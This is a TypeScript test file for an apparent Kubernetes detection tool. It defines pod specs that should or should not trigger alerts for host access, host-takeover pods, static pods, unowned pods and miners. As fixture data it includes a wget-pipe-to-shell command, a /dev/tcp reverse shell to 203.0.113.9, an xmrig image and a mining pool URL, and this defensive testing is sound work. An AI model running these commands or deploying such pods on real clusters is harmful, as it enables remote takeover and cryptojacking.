import { node, ownedBy, pod, podSpec, workload, managedBy } from '../objects.ts';
import { account, type World } from '../world.ts';
import type { Tables } from './table.ts';

const root = { volumes: [{ name: 'host', hostPath: { path: '/' } }] };
const privileged = { securityContext: { privileged: true } };
const mirror = (name: string, onNode: string, image = 'registry.k8s.io/etcd:3.6') =>
  pod(`kube-system/${name}-${onNode}`, podSpec(image, { nodeName: onNode }), {
    metadata: { annotations: { 'kubernetes.io/config.mirror': 'x' }, ...ownedBy('Node', onNode) },
  });
const controlPlane = { 'node-role.kubernetes.io/control-plane': '' };
const nodes = (world: World): void => {
  world.found(
    node('cp-a', '10.0.0.1', { labels: controlPlane }),
    node('cp-b', '10.0.0.2', { labels: controlPlane }),
    node('worker', '10.0.0.3'),
  );
  world.found(mirror('etcd', 'cp-a'), mirror('kube-apiserver', 'cp-a'));
  world.usually(() => undefined);
};
const make =
  (...args: Parameters<typeof workload>) =>
  (world: World): void =>
    world.write('eve', workload(...args));

/** Detections about pods. */
export const podTables: Tables = {
  'new-host-access': {
    fires: [
      [
        'a privileged workload',
        make('Deployment', 'shop/web', podSpec('web', {}, privileged)),
        { actor: 'eve', severity: 'high', seen: /has host access: privileged \(image docker\.io\/library\/web\)/ },
      ],
      [
        'a sensitive path behind dots',
        make('Deployment', 'shop/web', podSpec('web', { volumes: [{ name: 'x', hostPath: { path: '/srv/../etc/kubernetes' } }] })),
        { seen: /path \/etc\/kubernetes/ },
      ],
      [
        'a capability in a CronJob',
        make('CronJob', 'shop/job', podSpec('web', {}, { securityContext: { capabilities: { add: ['CAP_SYS_ADMIN'] } } })),
      ],
      [
        'a workload that gains the process IDs of the host',
        (world) => {
          world.found(workload('Deployment', 'shop/web', podSpec('web')));
          world.usually(() => undefined);
          world.write('eve', workload('Deployment', 'shop/web', podSpec('web', { hostPID: true })));
        },
      ],
      [
        'a privileged debug container',
        (world) => {
          world.write('alice', pod('shop/web', podSpec('web')));
          world.write(
            'eve',
            pod('shop/web', { ...podSpec('web'), ephemeralContainers: [{ name: 'd', image: 'busybox', ...privileged }] }),
            { verb: 'patch', of: 'pods/ephemeralcontainers' },
          );
        },
      ],
    ],
    quiet: [
      ['a usual workload', make('Deployment', 'shop/web', podSpec('web', { volumes: [{ name: 'x', emptyDir: {} }] }))],
      [
        'a new version of a privileged agent',
        (world) => {
          world.found(workload('DaemonSet', 'monitoring/agent', podSpec('agent:1', {}, privileged)));
          world.usually(() => undefined);
          world.write('alice', workload('DaemonSet', 'monitoring/agent', podSpec('agent:2', {}, privileged)));
          world.write('alice', workload('DaemonSet', 'monitoring/agent-windows', podSpec('agent:2', {}, privileged)));
        },
      ],
      [
        'the pods of a workload',
        (world) =>
          world.write(
            account('kube-system', 'daemon-set-controller'),
            pod('shop/agent-x2k4v', podSpec('agent', {}, privileged), { metadata: ownedBy('DaemonSet', 'agent') }),
          ),
      ],
      [
        'a path of the host that is not sensitive',
        make('Deployment', 'shop/web', podSpec('web', { volumes: [{ name: 'x', hostPath: { path: '/data/cache' } }] })),
      ],
    ],
  },
  'host-takeover-pod': {
    fires: [
      [
        'a pod with the root of the host',
        (world) => world.write('eve', pod('shop/x', podSpec('alpine', root))),
        { actor: 'eve', severity: 'critical', seen: /Pod shop\/x was made by hand/ },
      ],
      [
        'a privileged pod with the process IDs of the host',
        (world) => world.write(undefined, pod('shop/x', podSpec('alpine', { hostPID: true }, privileged))),
      ],
      [
        'the root of the host written with dots',
        (world) => world.write('eve', pod('shop/x', podSpec('alpine', { volumes: [{ name: 'h', hostPath: { path: '/etc/..' } }] }))),
      ],
    ],
    quiet: [
      [
        'a DaemonSet of the platform',
        (world) => world.write('alice', workload('DaemonSet', 'monitoring/node-exporter', podSpec('node-exporter', root))),
      ],
      [
        'the pods of a DaemonSet',
        (world) =>
          world.write(
            account('kube-system', 'daemon-set-controller'),
            pod('monitoring/node-exporter-x2k4v', podSpec('node-exporter', root), { metadata: ownedBy('DaemonSet', 'node-exporter') }),
          ),
      ],
      ['a pod by hand without such access', (world) => world.write('alice', pod('shop/x', podSpec('alpine', { hostPID: true })))],
      [
        'a static pod of the control plane',
        (world) =>
          world.write(
            'system:node:cp-a',
            pod('kube-system/x-cp-a', podSpec('x', root), { metadata: { annotations: { 'kubernetes.io/config.mirror': 'x' } } }),
          ),
      ],
    ],
  },
  'static-pod': {
    fires: [
      [
        'a static pod with a new name',
        (world) => {
          nodes(world);
          world.write('system:node:cp-a', mirror('backdoor', 'cp-a', 'alpine'));
        },
        { actor: 'system:node:cp-a', severity: 'high', seen: /node cp-a runs the static pod backdoor/ },
      ],
      [
        'a static pod of the control plane on a worker',
        (world) => {
          nodes(world);
          world.write('system:node:worker', mirror('etcd', 'worker'));
        },
      ],
      [
        'a static pod that appeared while Vigil was not running',
        (world) => {
          nodes(world);
          world.found(mirror('backdoor', 'cp-b', 'alpine'));
        },
      ],
    ],
    quiet: [
      [
        'a new version of a static pod',
        (world) => {
          nodes(world);
          world.write('system:node:cp-a', mirror('etcd', 'cp-a', 'registry.k8s.io/etcd:3.7'));
        },
      ],
      [
        'the same static pods on another node of the pool',
        (world) => {
          nodes(world);
          world.write('system:node:cp-b', mirror('etcd', 'cp-b'));
        },
      ],
      [
        'a static pod that is made again',
        (world) => {
          nodes(world);
          world.remove('system:node:cp-a', mirror('etcd', 'cp-a'));
          world.write('system:node:cp-a', mirror('etcd', 'cp-a'));
        },
      ],
    ],
  },
  'unowned-pod': {
    fires: [
      ['kubectl run where all pods have an owner', bare('eve'), { actor: 'eve', severity: 'low', seen: /Pod shop\/x has no owner/ }],
      ['kubectl run without audit events', bare(undefined)],
      [
        'a pod that was made while Vigil was not running',
        (world) => {
          world.usually(() =>
            world.write(
              account('kube-system', 'replicaset-controller'),
              pod(`shop/web-${world.now}`, podSpec('web'), { metadata: ownedBy('ReplicaSet', 'web-5d4f8c7b9') }),
            ),
          );
          world.found(pod('shop/x', podSpec('alpine')));
        },
      ],
      [
        'kubectl run where a controller makes all pods, with its field manager',
        (world) => {
          world.usually(() =>
            world.write(
              account('kube-system', 'replicaset-controller'),
              pod(`shop/web-${world.now}`, podSpec('web'), {
                metadata: { ...ownedBy('ReplicaSet', 'web-5d4f8c7b9'), ...managedBy('kube-controller-manager') },
              }),
            ),
          );
          world.write('eve', pod('shop/x', podSpec('alpine')));
        },
        { actor: 'eve' },
      ],
    ],
    quiet: [
      [
        'the next pod of a workload',
        (world) => {
          world.usually(() =>
            world.write(
              account('kube-system', 'replicaset-controller'),
              pod(`shop/web-${world.now}`, podSpec('web'), { metadata: ownedBy('ReplicaSet', 'web-5d4f8c7b9') }),
            ),
          );
          world.write(
            account('kube-system', 'replicaset-controller'),
            pod('shop/web-next', podSpec('web'), { metadata: ownedBy('ReplicaSet', 'web-5d4f8c7b9') }),
          );
        },
      ],
      [
        'a namespace in which pods without an owner are usual',
        (world) => {
          world.usually(() => world.write('ci', pod(`ci/build-${world.now}`, podSpec('build'))));
          world.write('ci', pod('ci/build-next', podSpec('build')));
        },
      ],
      ['the first pod of a namespace', (world) => world.write('alice', pod('new/x', podSpec('alpine')))],
    ],
  },
  'miner-or-tool': {
    fires: [
      [
        'the image of a miner',
        make('Deployment', 'shop/web', podSpec('docker.io/someone/xmrig:6')),
        { actor: 'eve', severity: 'high', seen: /miner xmrig/ },
      ],
      [
        'the pool of a miner in the arguments',
        make('Job', 'shop/job', podSpec('alpine', {}, { args: ['-o', 'stratum+tcp://pool.example:3333'] })),
        { seen: /pool of miners/ },
      ],
      [
        'a script that is downloaded and run',
        (world) =>
          world.write(undefined, pod('shop/x', podSpec('alpine', {}, { command: ['sh', '-c', 'wget -qO- http://203.0.113.9/a | sh'] }))),
      ],
      [
        'a reverse shell as the command',
        make('CronJob', 'shop/x', podSpec('alpine', {}, { command: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'] })),
      ],
    ],
    quiet: [
      ['an image whose name only contains such a word', make('Deployment', 'shop/web', podSpec('registry.example/axmrigger:1'))],
      [
        'a workload that reads its own token',
        make('Deployment', 'shop/web', podSpec('vault', {}, { args: ['-token=/var/run/secrets/kubernetes.io/serviceaccount/token'] })),
      ],
      [
        'an image that downloads data',
        make('Job', 'shop/load', podSpec('curl', {}, { command: ['curl', '-o', '/data/in.csv', 'https://data.example/in.csv'] })),
      ],
      [
        'the pods of a workload that was reported',
        (world) =>
          world.write(
            account('kube-system', 'replicaset-controller'),
            pod('shop/x-abc', podSpec('xmrig'), { metadata: ownedBy('ReplicaSet', 'x-5d4f8c7b9') }),
          ),
      ],
    ],
  },
};

function bare(user: string | undefined) {
  return (world: World): void => {
    world.usually(() =>
      world.write(
        account('kube-system', 'replicaset-controller'),
        pod(`shop/web-${world.now}`, podSpec('web'), { metadata: ownedBy('ReplicaSet', 'web-5d4f8c7b9') }),
      ),
    );
    world.write(user, pod('shop/x', podSpec('alpine')));
  };
}
